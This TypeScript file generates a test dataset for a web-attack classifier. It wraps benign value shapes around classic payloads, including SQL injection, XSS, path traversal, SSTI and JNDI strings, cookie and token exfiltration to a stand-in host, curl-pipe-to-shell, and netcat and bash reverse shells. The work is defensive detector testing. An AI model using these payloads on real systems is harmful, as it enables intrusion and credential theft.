/**
 * Adversarial carriers of the model gate's value shapes (session 33, adv33): every recogniser that lets a benign value
 * with an attack's marks pass or scores only a part of it (datasets/shape-carriers/shapes.ts lists them) was checked
 * as "0 of N attack values accepted", which cannot see an attack wrapped inside the accepted shape. Here each shape
 * wraps real payloads — the attack-family grammars' draws (src/model/training-data/attack-families) and the classic
 * payload kinds written below — appended, glued, on a line of their own, before it, in its first literal or query
 * value, or as a statement of its script; sent on the route the recogniser is meant for and on ordinary routes, as a
 * query, form, JSON and multipart value. Each shape is also sent alone (label benign, category `base:<recogniser>`),
 * so a carrier that passes is seen beside the shape it hid in. Deterministic by seed.
 *
 *   npx tsx datasets/shape-carriers.ts --out /tmp/carriers.ndjson [--seed 7] [--per-route 6] [--alone]
 */
import { writeFileSync } from 'node:fs';
import { resolve } from 'node:path';
import type { RequestRecord } from '../src/eval/record.js';
import { DEFAULT_ATTACK_FAMILIES, synthesizeFamilyAttacks } from '../src/model/training-data/attack-families/index.js';
import { Rng } from './lib/rng.js';
import { SHAPES, type PayloadKind, type ShapeRoute, type ShapeSpec } from './shape-carriers/shapes.js';
import { flagReader } from './lib/cli-flags.js';

export const SHAPE_CARRIER_SOURCE = 'shape-carriers';

/** Classic payloads of each kind, written here; `sql-tail` continues a condition or statement, `js` is a script's statement. */
const PAYLOADS: Record<Exclude<PayloadKind, 'family'>, readonly string[]> = {
  'sql-tail': [' UNION SELECT username, password FROM users', ' AND SLEEP(5)', ' OR 1=1', '; DROP TABLE users', ' AND 1=(SELECT COUNT(*) FROM information_schema.tables)', ' AND extractvalue(1,concat(0x7e,version()))', ' OR pg_sleep(5) IS NULL', " WAITFOR DELAY '0:0:5'"],
  sql: ["' OR '1'='1", "' UNION SELECT username, password FROM users--", '1 OR 1=1', '1; DROP TABLE users--', "' AND SLEEP(5)-- -", "1 OR status = 'active'", "admin'--", '1) OR (1=1'],
  xss: ['<script>alert(document.cookie)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(document.domain)>', '<iframe src="javascript:alert(1)"></iframe>', "<body onload=fetch('//x.example/?c='+document.cookie)>", '" onmouseover="alert(1)'],
  js: ["new Image().src='//x.example/?'+document.cookie", "fetch('https://x.example/c?'+document.cookie)", "document.location='https://x.example/?c='+document.cookie", "eval(atob('YWxlcnQoMSk='))", "require('child_process').exec('id')", "navigator.sendBeacon('//x.example', localStorage.getItem('token'))"],
  cmd: ['; cat /etc/passwd', '| nc 10.0.0.1 4444 -e /bin/sh', '`id`', '$(curl -s http://x.example/a.sh|sh)', '&& wget http://x.example/x -O /tmp/x', '; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
  path: ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '/etc/shadow', '....//....//etc/passwd', 'file:///etc/passwd', 'http://169.254.169.254/latest/meta-data/'],
  ssti: ['{{7*7}}', '${7*7}', "{{''.__class__.__mro__[1].__subclasses__()}}", "<%= system('id') %>", "#{T(java.lang.Runtime).getRuntime().exec('id')}", '{{config.items()}}'],
  jndi: ['${jndi:ldap://x.example/a}', '${${lower:j}ndi:rmi://x.example/a}', "() { :; }; /bin/bash -c 'id'"],
};

/** How a payload is placed in a shape. */
export const WRAPS = ['append', 'glued', 'line', 'prepend', 'slot', 'script'] as const;
export type Wrap = (typeof WRAPS)[number];

const LITERAL = /'([^'\n]*)'|"([^"\n]*)"/;
const QUERY_VALUE = /=([^&\s#]*)/;

/** `shape` with `payload` placed as `wrap` says; `slot` and `script` fall back to appending when the shape has no such place. */
export function wrapPayload(shape: string, payload: string, wrap: Wrap): string {
  switch (wrap) {
    case 'append':
      return `${shape} ${payload}`;
    case 'glued':
      return `${shape}${payload}`;
    case 'line':
      return `${shape.replace(/\n$/, '')}\n${payload}\n`;
    case 'prepend':
      return `${payload} ${shape}`;
    case 'slot': {
      const m = LITERAL.exec(shape) ?? QUERY_VALUE.exec(shape);
      if (m === null) return `${shape} ${payload}`;
      const open = m.index + 1;
      return `${shape.slice(0, open)}${payload}${shape.slice(open + m[0].length - (m[0].startsWith('=') ? 1 : 2))}`;
    }
    case 'script': {
      const at = shape.lastIndexOf('</script>');
      if (at < 0) return `${shape.replace(/\n$/, '')}\n${payload};\n`;
      return `${shape.slice(0, at)}  ${payload};\n${shape.slice(at)}`;
    }
  }
}

const ORDINARY: readonly ShapeRoute[] = [
  { method: 'GET', host: 'shop.example.test', path: '/api/items', spelling: 'query', field: 'data' },
  { method: 'POST', host: 'shop.example.test', path: '/contact', spelling: 'form', field: 'details', beside: { email: 'ann@example.com' } },
  { method: 'POST', host: 'api.example.test', path: '/api/v1/records', spelling: 'json', field: 'value', beside: { kind: 'note' } },
  { method: 'POST', host: 'shop.example.test', path: '/upload', spelling: 'multipart', field: 'value', beside: { album: 'summer' } },
];

const HEADERS = {
  'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
  Accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'Accept-Language': 'en-US,en;q=0.9',
};
const BOUNDARY = '----wardenShapeCarrier7f3a';

/** Sets `value` at a dotted path of objects and arrays (a numeric segment is an array index). */
function setPath(root: Record<string, unknown>, dotted: string, value: unknown): void {
  const parts = dotted.split('.');
  let node: Record<string, unknown> | unknown[] = root;
  for (let i = 0; i < parts.length - 1; i++) {
    const key = parts[i];
    const nextIsIndex = /^\d+$/.test(parts[i + 1]);
    const at = (node as Record<string, unknown>)[key];
    if (at === undefined) (node as Record<string, unknown>)[key] = nextIsIndex ? [] : {};
    node = (node as Record<string, unknown>)[key] as Record<string, unknown>;
  }
  (node as Record<string, unknown>)[parts[parts.length - 1]] = value;
}

/** A text as nbformat's multi-line string: its lines, each with its line break (the last without one); none empty. */
function textLines(text: string): string[] {
  return text.split(/(?<=\n)/).filter((l) => l !== '');
}

const PATH_SAFE = /[A-Za-z0-9\-._~!$&'()*+,;=:@/%]/;
function pathOnWire(text: string): string {
  let out = '';
  for (const ch of text) out += PATH_SAFE.test(ch) ? ch : encodeURIComponent(ch);
  return out.startsWith('/') ? out : `/${out}`;
}

/** The request that carries `value` on `route`. */
export function carrierRequest(route: ShapeRoute, value: string): Omit<RequestRecord, 'id' | 'source' | 'label' | 'category'> {
  const headers: Record<string, string> = { Host: route.host, ...HEADERS };
  const pairs = (): [string, string][] => [...Object.entries(route.beside ?? {}), [route.field, value]];
  switch (route.spelling) {
    case 'query':
      return { method: route.method, path: route.path, query: new URLSearchParams(pairs()).toString().replace(/\+/g, '%20'), headers };
    case 'form':
      return { method: route.method, path: route.path, query: '', headers: { ...headers, 'Content-Type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams(pairs()).toString() };
    case 'json': {
      const body: Record<string, unknown> = {};
      for (const [k, v] of Object.entries(route.json ?? {})) setPath(body, k, v);
      for (const [k, v] of pairs()) setPath(body, k, route.lines === true && k === route.field ? textLines(v) : v);
      return { method: route.method, path: route.path, query: '', headers: { ...headers, 'Content-Type': 'application/json' }, body: JSON.stringify(body) };
    }
    case 'multipart': {
      const parts = pairs().map(([k, v]) => `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`);
      return { method: route.method, path: route.path, query: '', headers: { ...headers, 'Content-Type': `multipart/form-data; boundary=${BOUNDARY}` }, body: `${parts.join('')}--${BOUNDARY}--\r\n` };
    }
    case 'header':
      // A header cannot carry a raw line break: it arrives percent-encoded, as the attack generator sends one.
      return { method: route.method, path: route.path, query: '', headers: { ...headers, [route.field]: value.replace(/\r/g, '%0d').replace(/\n/g, '%0a') } };
    case 'path':
      return { method: route.method, path: pathOnWire(value), query: '', headers };
  }
}

function routeTag(route: ShapeRoute): string {
  return `${route.spelling}:${route.field}`;
}

/** The routes a shape's carriers travel: its own, then the ordinary ones unless it is a header's or a whole path's. */
export function routesOf(spec: ShapeSpec): ShapeRoute[] {
  return spec.ordinary === false ? [...spec.routes] : [...spec.routes, ...ORDINARY];
}

export interface ShapeCarrierOptions {
  /** Carriers per recogniser and route (default 6). */
  perRoute?: number;
  /** Family draws in the `family` pool (default 60). */
  familyDraws?: number;
  /** Also each carrier's payload alone on the same route (category `alone:<recogniser>`, id `<carrier id>/alone`): a carrier that passes where its payload alone is blocked is the shape's doing. */
  withPayloads?: boolean;
}

/**
 * Benign shapes alone (category `base:<recogniser>`, on the recogniser's own routes) and attack carriers (category =
 * the recogniser), deterministic by `seed`.
 */
export function generateShapeCarriers(seed: number, options: ShapeCarrierOptions = {}): RequestRecord[] {
  const perRoute = options.perRoute ?? 6;
  const withPayloads = options.withPayloads ?? false;
  const family = synthesizeFamilyAttacks(seed, Math.ceil((options.familyDraws ?? 60) / DEFAULT_ATTACK_FAMILIES.length), DEFAULT_ATTACK_FAMILIES).map((a) => a.text);
  const out: RequestRecord[] = [];
  for (const spec of SHAPES) {
    spec.routes.forEach((route, r) => {
      spec.shapes.forEach((shape, s) => {
        out.push({ id: `${SHAPE_CARRIER_SOURCE}/base/${spec.recogniser}/${r}/${s}`, source: SHAPE_CARRIER_SOURCE, label: 'benign', category: `base:${spec.recogniser}`, ...carrierRequest(route, shape) });
      });
    });
    const rng = Rng.derive(seed, spec.recogniser);
    for (const route of routesOf(spec)) {
      for (let n = 0; n < perRoute; n++) {
        const shape = rng.pick(spec.shapes);
        const wrap = rng.pick(WRAPS);
        const kind = rng.pick(spec.kinds);
        const payload = kind === 'family' ? rng.pick(family) : rng.pick(PAYLOADS[kind]);
        const value = wrapPayload(shape, payload, wrap);
        const id = `${SHAPE_CARRIER_SOURCE}/${spec.recogniser}/${routeTag(route)}/${n}/${wrap}/${kind}`;
        out.push({ id, source: SHAPE_CARRIER_SOURCE, label: 'attack', category: spec.recogniser, ...carrierRequest(route, value) });
        if (withPayloads) out.push({ id: `${id}/alone`, source: SHAPE_CARRIER_SOURCE, label: 'attack', category: `alone:${spec.recogniser}`, ...carrierRequest(route, payload.trim()) });
      }
    }
  }
  return out;
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const argv = process.argv.slice(2);
  const flag = flagReader(argv);
  if (argv.includes('--help') || flag('out') === undefined) {
    console.log('Usage: npx tsx datasets/shape-carriers.ts --out FILE.ndjson [--seed 7] [--per-route 6] [--alone]\n\nWrites the value shapes alone (benign) and with payloads wrapped in them (attack) as warden eval records; --alone adds each payload alone on the same route.');
    process.exitCode = argv.includes('--help') ? 0 : 2;
  } else {
    const records = generateShapeCarriers(Number(flag('seed') ?? 7), { perRoute: Number(flag('per-route') ?? 6), withPayloads: argv.includes('--alone') });
    writeFileSync(resolve(flag('out')!), `${records.map((r) => JSON.stringify(r)).join('\n')}\n`);
    console.log(`${records.length} records (${records.filter((r) => r.label === 'attack').length} carriers) -> ${flag('out')}`);
  }
}
